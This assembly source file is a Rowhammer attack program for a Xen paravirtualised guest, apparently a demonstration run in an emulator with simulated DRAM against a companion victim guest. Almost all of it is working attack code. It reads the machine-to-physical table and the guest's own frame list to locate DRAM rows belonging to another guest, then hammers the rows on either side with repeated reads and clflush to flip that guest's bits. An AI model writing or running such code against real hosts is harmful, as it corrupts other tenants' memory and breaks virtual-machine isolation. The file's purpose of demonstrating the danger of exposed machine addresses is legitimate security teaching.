; rowhammer-neighbour: looks for rows of DRAM that hold memory of others between two rows that hold its own, and activates
; those two again and again, so that bits of the others' memory change, which it can neither read nor write.
; Shows: what machine addresses are good for. Under direct paging the list of frames and the table of machine to physical
; frames say where to aim; under shadow page tables there is nothing to aim at.
; It takes the rows of `--dram banks=8,rows=1024`, and needs somebody to be there:
;       trapline run --dram seed=1 --vm main.asm,cpu=para --vm ../rowhammer-victim/main.asm,ram=16M

; differs(bochs): * - it is no Xen
; differs(qemu): * - it is no Xen

%include "../inc/guest.inc"
%include "../inc/paging.inc"

BANKS           equ 8
ROWS            equ 1024
MOST_VICTIMS    equ 8
ROUNDS          equ 120000          ; two activations each

        section .bss
own:            resb 1 << 18        ; own[frame]: 1 for a frame of the machine that is the guest's
OWN_FRAMES      equ $ - own
machine_frames: resq 1
row_frames:     resq 1

        section .text
main:
        bt dword [xen_features + 4], XENFEAT_auto_translated_physmap
        jc .blind
        hypercall memory_op, XENMEM_maximum_ram_page, 0
        mov [machine_frames], rax
        mov ecx, 1
.row:   mov rdx, rcx                ; the smallest rows with which there are enough
        imul rdx, BANKS * ROWS
        cmp rdx, rax
        jae .sized
        shl ecx, 1
        jmp .row
.sized: mov [row_frames], rcx
        call mark_own
        jmp hammer_all
.blind: print `I know only numbers of my own: there is nothing to aim at.\n`
        ret

mark_own:
        mov rsi, [frame_list]
        mov rbx, [boot_start_info]
        mov rbx, [rbx + start_info.nr_pages]
        xor ecx, ecx
.frame: mov rax, [rsi + rcx * 8]
        mov byte [own + rax], 1
        inc rcx
        cmp rcx, rbx
        jb .frame
        ret

; Goes through the rows of the machine: those with a frame of others between two of the guest's are victims.
hammer_all:
        mov r15, MACH2PHYS_VIRT_START
        xor r13d, r13d              ; victims so far
        mov r12, [row_frames]
        mov r14, r12
        imul r14, BANKS             ; frames from a row to the next one of its bank
        mov rbx, r14                ; the first frame of a row
.row:   mov rdi, rbx
        call has_other
        jnc .next
        mov rdi, rbx
        sub rdi, r14
        call own_in_row
        jnc .next
        mov rbp, rax
        lea rdi, [rbx + r14]
        call own_in_row
        jnc .next
        mov rsi, rbp
        mov rdi, rax
        call hammer
        inc r13d
        cmp r13d, MOST_VICTIMS
        jae .done
.next:  add rbx, r12
        lea rax, [rbx + r14]
        add rax, r12
        cmp rax, [machine_frames]
        jbe .row
.done:  print `rows hammered on: `
        print_dec r13
        print `\n`
        ret

; has_other: CF if the row that begins with frame RDI has one of another guest.
has_other:
        xor ecx, ecx
.frame: lea rdx, [rdi + rcx]
        cmp byte [own + rdx], 0
        jne .next
        cmp qword [r15 + rdx * 8], -1
        jne .found
.next:  inc rcx
        cmp rcx, r12
        jb .frame
        clc
        ret
.found: stc
        ret

; own_in_row: CF, and RAX = the address of a frame of the guest in the row that begins with frame RDI.
own_in_row:
        xor ecx, ecx
.frame: lea rdx, [rdi + rcx]
        cmp byte [own + rdx], 0
        je .next
        mov rax, [r15 + rdx * 8]
        shl rax, 12                 ; memory is mapped one to one
        stc
        ret
.next:  inc rcx
        cmp rcx, r12
        jb .frame
        clc
        ret

; hammer: reads at RSI and RDI in turn, each time from memory.
hammer:
        mov ecx, ROUNDS
.round: mov rax, [rsi]
        mov rax, [rdi]
        clflush [rsi]
        clflush [rdi]
        dec ecx
        jnz .round
        ret
